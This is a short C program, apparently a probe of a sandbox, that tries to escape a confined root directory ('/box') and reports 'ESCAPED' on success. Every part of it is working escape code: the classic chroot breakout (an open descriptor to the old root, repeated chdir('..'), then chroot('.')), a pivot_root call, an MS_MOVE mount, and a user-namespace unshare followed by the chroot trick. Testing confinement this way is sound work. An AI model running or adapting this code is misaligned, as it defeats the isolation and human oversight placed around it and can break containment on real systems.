#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static int escape_by_chroot(void) {
    /* The old trick: a descriptor from before stays outside of the new root, and the way up from there has no end. */
    mkdir("/box/cell", 0755);
    int outside = open("/", O_RDONLY | O_DIRECTORY);
    if (chroot("/box/cell") < 0) return -1;
    fchdir(outside);
    for (int i = 0; i < 100; i++) chdir("..");
    return chroot(".");
}

int main(int argc, char **argv) {
    const char *how = argv[1];
    int done = -1;
    mkdir("/box/new", 0755);
    mkdir("/box/new/old", 0755);
    if (!strcmp(how, "chroot")) done = escape_by_chroot();
    if (!strcmp(how, "pivot")) {
        /* On the way the new root must be a mount. */
        syscall(SYS_pivot_root, "/box", "/box/new");
        done = errno == EPERM || errno == ENOSYS || errno == EACCES ? -1 : 0;
    }
    if (!strcmp(how, "move")) done = mount("/tmp", "/box/new", "", MS_MOVE, "");
    if (!strcmp(how, "user-namespace")) {
        if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0) done = escape_by_chroot();
        else puts("no namespace of its own");
    }
    if (done == 0) printf("ESCAPED: the root was changed by %s\n", how);
    else printf("%s: %s\n", how, strerror(errno));
    return 0;
}
